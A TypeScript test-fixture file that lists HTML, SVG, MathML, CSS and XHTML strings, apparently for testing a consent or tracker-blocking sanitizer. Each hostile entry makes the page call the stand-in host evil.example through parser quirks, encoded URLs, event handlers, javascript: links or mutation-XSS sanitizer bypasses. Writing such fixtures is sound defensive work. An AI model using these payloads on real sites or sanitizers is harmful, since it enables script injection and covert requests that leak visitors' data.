/** Content as nobody should write it. Each asks `evil.example` for something, in some reading of it. */
export const HOSTILE: Record<string, string> = {
  // Tags
  'unclosed tag': '<img src=//evil.example/1 ',
  'unclosed frame': '<iframe src=//evil.example/1>',
  'unclosed film': '<video src=//evil.example/1><p>text',
  'script with an address that does not count':
    '<script href=/own.js>new Image().src="//evil.example/1"</script>',
  'script with an address of SVG': '<script xlink:href=/own.js>new Image().src="//evil.example/1"</script>',
  'script that says it was held':
    '<script data-consent-src=/own.js data-consent-category=necessary>new Image().src="//evil.example/1"</script>',
  'unclosed script': '<script src=//evil.example/1>',
  'upper case': '<IMG SRC=HTTPS://EVIL.EXAMPLE/1>',
  'slashes for spaces': '<img/src=//evil.example/1/alt=x>',
  'misnested film': '<b><video src=//evil.example/1></b><i></video></i>',
  'film in formatting': '<p><b>one<p><iframe src=//evil.example/1></iframe>two',
  'frame in a table': '<table><iframe src=//evil.example/1></iframe><tr><td>one</table>',
  'picture in a table': '<table><img src=//evil.example/1></table>',
  'end tags of nobody': '</div></p></span><img src=//evil.example/1></body></html><img src=//evil.example/2>',
  'two bodies': '<body background=//evil.example/1><body style="background:url(//evil.example/2)">',
  'frames for the body': '<frameset><style><frame src=//evil.example/1></frameset>',
  'frames without content': '<noframes><p title="</noframes><img src=//evil.example/1>">',
  'deep nesting': `${'<div>'.repeat(600)}<img src=//evil.example/1>`,
  'half a tag before': '<<img src=//evil.example/1>',
  // Attributes
  'no quotes': '<img src=https://evil.example/1>',
  'single quotes': "<img src='https://evil.example/1'>",
  'line breaks around': '<img\nsrc\n=\n"\nhttps://evil.example/1\n">',
  'first of two': '<img src=//evil.example/1 src=/own.png>',
  'second of two': '<img src=//evil.example/1 src=//evil.example/2 SRC=//evil.example/3>',
  'odd names': '<img "<=x =y=z src=//evil.example/1 \'>',
  'null in a name': '<img sr\u0000c=/own src=//evil.example/1>',
  'held already, as necessary': '<img data-consent-src=//evil.example/1 data-consent-category=necessary>',
  // Addresses
  'reference at the beginning': '<img src="&#104;ttps://evil.example/1">',
  'reference without end': '<img src="&#x68ttps:&#47/evil.example/1">',
  'named references': '<img src="https&colon;&sol;&sol;evil.example&sol;1">',
  'tabs within': '<img src="ht\ttps:/\n/ev\nil.example/1">',
  'of the same scheme': '<img src="//evil.example/1">',
  backslashes: '<img src="\\\\evil.example/1">',
  'slash and backslash': '<img src="/\\evil.example/1">',
  'too many slashes': '<img src="https:////evil.example/1">',
  'with a name and a password': '<img src="https://site.example@evil.example/1">',
  'full width': '<img src="https://ｅｖｉｌ.example/1">',
  'commas of a list': '<img srcset="/own.png 1x,//evil.example/1 2x,,//evil.example/2">',
  'brackets of a list': '<img srcset="/own.png (,//evil.example/2 1x), //evil.example/1 2x">',
  'data in a frame': '<iframe src="data:text/html,<img src=https://evil.example/1>"></iframe>',
  'data as a style': '<link rel=stylesheet href="data:text/css,@import url(https://evil.example/1)">',
  'data as a script':
    '<script src="data:text/javascript,new Image().src=\'https://evil.example/1\'"></script>',
  'code in a frame': '<iframe src="javascript:\'<img src=https://evil.example/1>\'"></iframe>',
  'code by a reference':
    '<iframe src="java&Tab;script:top.eval(`new Image().src=\'//evil.example/1\'`)"></iframe>',
  'code in an object': '<object data="javascript:fetch(\'https://evil.example/1\')"></object>',
  'another base': '<base href="https://evil.example/"><img src="1">',
  // Code
  'a handler': '<img src=/none onerror="new Image().src=\'https://evil.example/1\'">',
  'a hidden name in a handler':
    '<img src=/none onerror="new Image().src=atob(\'aHR0cHM6Ly9ldmlsLmV4YW1wbGUvMQ==\')">',
  'a handler of SVG': '<svg onload="fetch(\'https://evil.example/1\')"></svg>',
  'a hidden name in a script': '<script>new Image().src="https:/"+"/evil.example/1"</script>',
  'an old name of the language': '<script language=javascript>fetch("https://evil.example/1")</script>',
  'a type with more': '<script type=" text/JavaScript ">fetch("https://evil.example/1")</script>',
  'script in a comment in a script':
    '<script><!--<script></script>--><img src=//evil.example/1></script><img src=//evil.example/2>',
  // Comments and text
  'a comment that ends early': '<!--><img src=//evil.example/1>-->',
  'a comment that ends by a bang': '<!-- --!><img src=//evil.example/1> -->',
  'a nested comment': '<!-- <!-- --><img src=//evil.example/1> -->',
  'a bogus comment': '<?php ><img src=//evil.example/1>?>',
  'an end tag that is a comment': '</ ><img src=//evil.example/1>',
  'a conditional comment': '<!--[if IE]><img src=//evil.example/1><![endif]--><img src=//evil.example/2>',
  'CDATA in HTML': '<![CDATA[ > <img src=//evil.example/1> ]]>',
  'CDATA after SVG in a table': '<table><svg></table><![CDATA[ > <img src=//evil.example/1> ]]>',
  'a title': '<title><img title="</title><img src=//evil.example/1>"></title>',
  'a text area': '<textarea><img title="</textarea><img src=//evil.example/1>">',
  plaintext: '<p><img src=//evil.example/1><plaintext><img src=//evil.example/2>',
  xmp: '<xmp><p title="</xmp><img src=//evil.example/1>">',
  // Other namespaces
  'SVG picture': '<svg><image xlink:href="//evil.example/1" href="//evil.example/2"/></svg>',
  'SVG style': '<svg><style>@import url(//evil.example/1);</style></svg>',
  'SVG style by references': '<svg><style>&#64;import "//evil.example/1";</style></svg>',
  'style that is none in SVG': '<svg><style><img src=//evil.example/1></style></svg>',
  'what is read ahead in CDATA': '<svg><![CDATA[ > <img src=//evil.example/1> ]]></svg>',
  'what is read ahead in math':
    '<math><mtext></mtext><style><!--</style><img src=//evil.example/1>--></math>',
  'a tag that the page ends': '<p>text</p><img src=//evil.example/1 title="',
  'a tag that begins at the end': '<p>text</p><',
  'title in SVG': '<svg><title><iframe src=//evil.example/1></iframe></title></svg>',
  'foreign object': '<svg><foreignObject><img src=//evil.example/1></foreignObject></svg>',
  'SVG script': '<svg><script href="//evil.example/1"/></svg>',
  'SVG script with an address that does not count':
    '<svg><script src=/own.js>new Image().src&#61;"//evil.example/1"</script></svg>',
  'SVG animation of a style':
    '<svg><rect width=9 height=9><set attributeName=fill to="url(//evil.example/1#a)"/></rect></svg>',
  'SVG animation of styles':
    '<svg><rect width=9 height=9><animate attributeName=mask values="url(//evil.example/1);none" dur=1s></rect></svg>',
  'SVG script with text': '<svg><script>new Image().src&#61;"//evil.example/1"</script></svg>',
  'SVG animation':
    '<svg><image><animate attributeName=href values="//evil.example/1;//evil.example/2" dur=1s></image></svg>',
  'SVG filter':
    '<svg><filter id=a><feImage href="//evil.example/1"/></filter><rect width=9 height=9 filter="url(#a)"/></svg>',
  'SVG use': '<svg><use href="//evil.example/1#a"/></svg>',
  'SVG presentation': '<svg><rect width=9 height=9 fill="\\75 rl(//evil.example/1#a)"/></svg>',
  'math that turns into HTML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=//evil.example/1&gt;"><img src=//evil.example/2>',
  'math and a style': '<math><style><img src=//evil.example/1></style></math>',
  'annotation that is HTML':
    '<math><annotation-xml encoding="text/html"><style><img src=//evil.example/1></style><img src=//evil.example/2>',
  'form and math': '<form><math><mtext></form><form><mglyph><style></math><img src=//evil.example/1>',
  // What sanitizers let through once, since their tree became another one when it was read again
  'a paragraph out of SVG': '<svg></p><style><a id="</style><img src=//evil.example/1>"></svg>',
  'a text area in SVG in math':
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img src=//evil.example/1>">',
  'CDATA in a description': '<svg><desc><![CDATA[</desc><img src=//evil.example/1>]]></svg>',
  'a style of SVG in a paragraph':
    '<p><svg><style><!--</style><img title="--&gt;"><img src=//evil.example/1>--></svg>',
  'a foreign object in an annotation':
    '<svg><annotation-xml><foreignObject><style><!--</style><p id="--><img src=//evil.example/1>">',
  'a template in a select':
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=//evil.example/1>">',
  'a caption around SVG':
    '<table><caption><svg><title><table><caption></caption></table><style><!--</style></title><img src=//evil.example/1>',
  'a form in a form':
    '<form><div></form><form><table><form><svg><style></table><img src=//evil.example/1></style>',
  'a row after SVG':
    '<table><tr><svg><desc><td><style><a title="</style><img src=//evil.example/1>"></table>',
  'a quote in a reference':
    '<a title="&quot;><img src=//evil.example/1>"><img alt="&quot; src=/own" src="//evil.example/2">',
  'an animation of tabs':
    '<svg><image><animate attributeName=href values="/&#9;/evil.example/1;/&#10;/evil.example/2" dur=1s></image></svg>',

  // Inert, and not quite
  'a template': '<template><img src=//evil.example/1></template>',
  'a shadow root': '<div><template shadowrootmode=open><img src=//evil.example/1></template></div>',
  noscript: '<noscript><img src=//evil.example/1></noscript>',
  'noscript that ends in an attribute': '<noscript><p title="</noscript><img src=//evil.example/1>">',
  'noscript and a comment': '<noscript><!--</noscript><img src=//evil.example/1>--></noscript>',
  'noscript and a style': '<noscript><style></noscript><img src=//evil.example/1></style>',
  'select and a title': '<select><title><img title="</title><img src=//evil.example/1>"></select>',
  'select and a style': '<select><style></select><img src=//evil.example/1></style>',
  'select and a text': '<select><xmp><p title="</xmp><img src=//evil.example/1>">',
  'select and a picture': '<select><option><img src=//evil.example/1></select>',
  'select and a script': '<select><script>fetch("https://evil.example/1")</script></select>',
  'select and noscript': '<select><noscript><p title="</noscript><img src=//evil.example/1>"></select>',
  'a document in an attribute': '<iframe srcdoc="<img src=//evil.example/1>"></iframe>',
  'a document in a document': `<iframe srcdoc="<iframe srcdoc='&lt;img src=//evil.example/1&gt;'></iframe>"></iframe>`,
  'a deep document':
    '<iframe srcdoc="<iframe srcdoc=&quot;<iframe srcdoc=&amp;quot;<iframe srcdoc=\'&amp;amp;lt;img src=//evil.example/1&amp;amp;gt;\'></iframe>&amp;quot;></iframe>&quot;></iframe>"></iframe>',
  'a gate that is none of ours':
    '<div data-consent-gate data-consent-category=necessary><script type="application/json" data-consent-text>"<img src=//evil.example/1>"</script><p data-consent-blocked></p></div>',
  'held, for another category':
    '<p data-consent-held=style data-consent-style="background:url(//evil.example/1)" data-consent-category=necessary>text',
  // Styles
  'a style attribute': '<p style="background:url(//evil.example/1)">text',
  'escapes of a style': '<p style="background:u\\72l(https\\3a //evil.example/1)">text',
  'a comment of a style': '<p style="/*\'*/background:url(//evil.example/1)/*\'*/">text',
  'a string that does not end': '<p style="a:\'\n;background:url(//evil.example/1)">text',
  'an image set': '<p style="background:image-set(\'//evil.example/1\' 1x)">text',
  'a variable': '<p style="--a:\'//evil.example/1\';background:image-set(var(--a) 1x)">text',
  'a hash that is no function': '<p style="a:#url(x&quot;);background:url(//evil.example/1)">text',
  'the end of a comment of HTML': '<style><!--@import "//evil.example/1";--></style>',
  'a malformed address before': '<p style="a:url(a&quot;b);background:url(//evil.example/1)">text',
  'a style element': '<style>p{background:url(//evil.example/1)}</style><p>text',
  'an import by a string': '<style>@import "//evil.example/1";</style>',
  'an import behind a control character': '<style>@import "\\1 //evil.example/1";</style>',
  'a picture behind a control character': '<p style="background:url(\'\\1f //evil.example/1\')">text',
  'an import by an escape': '<style>@\\69mport "\\2f/evil.example/1";</style>',
  'an import of data': '<style>@import url("data:text/css,@import%20url(https://evil.example/1)");</style>',
  'an import of data of no type that anybody knows':
    '<style>@import "data:application/x-unknown-content-type,@import url(https://evil.example/1);";</style>',
  'an import of data of no type, in SVG':
    '<svg><style>@import "data:application/x-unknown-content-type,@import url(https://evil.example/1);";</style></svg>',
  'imports of data that says it were a picture, a film or a font':
    '<style>@\\69mport/**/url("data:image/png,@import%20url(https://evil.example/1)");@IMPORT url(data:video/x,@import%22https://evil.example/1%22);' +
    '@import\n"data:font/x,@import url(https://evil.example/1);" screen;@import "DATA:image/,@import url(https://evil.example/1);"</style>',
  'a font': '<style>@font-face{font-family:a;src:url(//evil.example/1)}p{font-family:a}</style><p>text',
  // Quiet ways
  hints:
    '<link rel=" DNS-prefetch preconnect" href=//evil.example/1><link rel=prefetch href=//evil.example/2>',
  'many sizes ahead': '<link rel=preload as=image imagesrcset="//evil.example/1 1x" href="">',
  'a refresh': '<meta http-equiv=" Refresh" content="0;url=https://evil.example/1">',
  'a refresh in quotes': '<meta http-equiv=refresh content="0 , URL = \'https://evil.example/1\'x">',
  'a picture button': '<input type=image src=//evil.example/1>',
  'a background': '<table background=//evil.example/1><tr><td background=//evil.example/2>a</table>',
  'a report of attribution': '<img src=/own.png attributionsrc="https://evil.example/1">',
};

const NEVER = 'data-consent-category="{&quot;or&quot;:[]}"';

/** Content that has the page's own runtime ask `evil.example` or a tracker, by the attributes in which that holds things. */
export const HOSTILE_TO_RUNTIME: Record<string, string> = {
  'given already: a list of pictures': `<img data-consent-given=srcset data-consent-srcset="//evil.example/1 1x" ${NEVER}>`,
  'given already: a style sheet':
    '<link rel=stylesheet data-consent-given=href data-consent-href=//film.example/1 data-consent-category=marketing>',
  'given already, with its address': '<link rel=stylesheet href=//film.example/1 data-consent-given=href>',
  'given already: a style':
    '<p data-consent-given=style data-consent-style="background:url(//film.example/1)" data-consent-category=marketing>text',
  'given already: the text of a style':
    '<style data-consent-given=css data-consent-css="p{background:url(//film.example/1)}" data-consent-category=marketing></style><p>text',
  'given already: a document':
    '<iframe hidden data-consent-given=srcdoc data-consent-srcdoc="<img src=//film.example/1>" data-consent-category=marketing></iframe>',
  'given already: a poster': `<video data-consent-given=poster data-consent-poster=//evil.example/1 ${NEVER}></video>`,
  'a style that is a script':
    '<script data-consent-held=css data-consent-css="new Image().src=atob(`Ly9ldmlsLmV4YW1wbGUvMQ==`)" data-consent-category=necessary></script>',
  'a style that is a script of SVG':
    '<svg><script data-consent-held=css data-consent-css="new Image().src=atob(`Ly9ldmlsLmV4YW1wbGUvMQ==`)" data-consent-category=necessary></script></svg>',
  'a style that is a script, given already': `<script data-consent-given=css data-consent-css="new Image().src=atob(\`Ly9ldmlsLmV4YW1wbGUvMQ==\`)" ${NEVER}></script>`,
  'a script whose held address is empty':
    '<script type=text/plain src=/own.js data-consent-src data-consent-category=necessary>new Image().src="//evil.example/1"</script>',
};

/**
 * What a sanitizer leaves of what visitors write where it lets links, frames and animations through, and all `data-` attributes: by itself
 * it runs nothing.
 */
export const SANITIZED: Record<string, string> = Object.fromEntries(
  [
    'javascript:void(new Image().src=`https://evil.example/1`)',
    ' java&#10;script:void(new Image().src=`https://evil.example/1`)',
  ].flatMap((code) =>
    ['held', 'given'].flatMap((state) => {
      const waits = `data-consent-${state}`;
      const category = state === 'held' ? 'data-consent-category=necessary' : NEVER;
      const aside = (name: string) => `${waits}=${name} data-consent-${name}="${code}" ${category}`;
      return Object.entries({
        'a link': `<a ${aside('href')}>Press</a>`,
        'a link of SVG': `<svg><a ${aside('href')}><text y="20">Press</text></a></svg>`,
        'an area': `<img usemap=#m width=90 height=90 alt=Press><map name=m><area coords=0,0,90,90 ${aside('href')}></map><p>Press</p>`,
        'a step of an animation': `<svg><a><set attributeName=href ${aside('to')} /><text y="20">Press</text></a></svg>`,
        'steps of an animation': `<svg><a><animate attributeName=href dur=9s ${aside('values')} /><text y="20">Press</text></a></svg>`,
        'a frame': `<iframe data-consent-src="${code}" data-consent-category=necessary></iframe><p>Press</p>`,
        'a document': `<iframe ${waits}=srcdoc data-consent-srcdoc="<script>new Image().src=\`//evil.example/1\`</script>" ${category}></iframe><p>Press</p>`,
      }).map(([name, html]) => [`${name}, ${state}: ${code}`, html]);
    }),
  ),
);

/** Code of a tracker that runs once somebody presses it. */
export const CODE_OF_LINKS: Record<string, string> = Object.fromEntries(
  [
    'javascript:void(new Image().src=`//film.example/1`)',
    ' java&#10;script:void(new Image().src=`//film.example/1`)',
  ].flatMap((code) => [
    [`a link: ${code}`, `<a href="${code}">Press</a>`],
    [`a form: ${code}`, `<form action="${code}"><button>Press</button></form>`],
    [`a button: ${code}`, `<form><button formaction="${code}">Press</button></form>`],
    [`a link of SVG: ${code}`, `<svg><a href="${code}"><text y="20">Press</text></a></svg>`],
    [`an old link of SVG: ${code}`, `<svg><a xlink:href="${code}"><text y="20">Press</text></a></svg>`],
  ]),
);

const ON_ITS_OWN = [
  'script',
  'style',
  'title',
  'textarea',
  'iframe',
  'noscript',
  'xmp',
  'noembed',
  'noframes',
  'template',
];

const XHTML_IMAGE = '<img xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/1" alt=""/>';

const xhtml = (body: string, head = '', before = '') =>
  `<?xml version="1.0" encoding="utf-8"?>${before}<html xmlns="http://www.w3.org/1999/xhtml"><head>${head}</head><body>${body}</body></html>`;

/** Pages of XHTML. Each asks `evil.example` for something where it is read as XML, by what HTML reads otherwise. */
export const HOSTILE_XHTML: Record<string, string> = {
  ...Object.fromEntries(
    ON_ITS_OWN.map((name) => [`<${name}/>`, xhtml(`<${name}/><p>text</p>${XHTML_IMAGE}`)]),
  ),
  'a title that ends itself': xhtml('', '<title/><link rel="stylesheet" href="https://evil.example/1"/>'),
  'a style sheet of XML': xhtml('', '', '<?xml-stylesheet type="text/css" href="https://evil.example/1"?>'),
  'an entity': xhtml(
    '&e;',
    '',
    `<!DOCTYPE html [<!ENTITY e "&#60;img xmlns='http://www.w3.org/1999/xhtml' src='https:&#47;/evil.example/1'/>">]>`,
  ),
  'an element by another name': xhtml(
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">new Image().src="https://evil.example/1"</h:script>',
  ),
  'an attribute by another name': xhtml(
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><image width="9" height="9" x:href="https://evil.example/1"/></svg>',
  ),
  'references in a script': xhtml(
    '<script>new Image().src=&quot;https:&#47;&#47;evil.example/1&quot;</script>',
  ),
  'CDATA in a style': xhtml('<style><![CDATA[@import "https://evil.example/1";/*</style>*/]]></style>'),
  'CDATA around the end of a script': xhtml(
    `<script>a=\`<![CDATA[</script>]]>\`;new Image().src="//evil.example/1"</script>`,
  ),
  'a comment within a script': xhtml(`<script><!--</script>-->new Image().src="//evil.example/1"</script>`),
};

/** Content in which nothing loads, whatever it looks like. */
export const HARMLESS: Record<string, string> = {
  'tags in an attribute': '<p title="<img src=//evil.example/1>">text</p>',
  'tags in a comment': '<!-- <img src=//evil.example/1> -->',
  'tags in a text area': '<textarea><img src=//evil.example/1></textarea>',
  'tags in a title': '<title><img src=//evil.example/1></title>',
  references: '<code>&lt;img src=//evil.example/1&gt;</code>',
  links: '<a href="https://evil.example/1">text</a><area href="//evil.example/2">',
  'data in a script': '<script type="application/ld+json">{"@id":"https://evil.example/1"}</script>',
  'odd but own':
    '<P TITLE=a&amp;b><br/><img alt=x src=/own.png srcset="/a.png 1x, b.png 2x"><p>a<table><td>b</table>&nbsp;&copy',
  'own styles': '<style>p{background:url(/own.png)}</style><p style="background:url( \'own.png\' )">text</p>',
  'a canonical link': '<link rel="canonical" href="https://evil.example/1">',
};
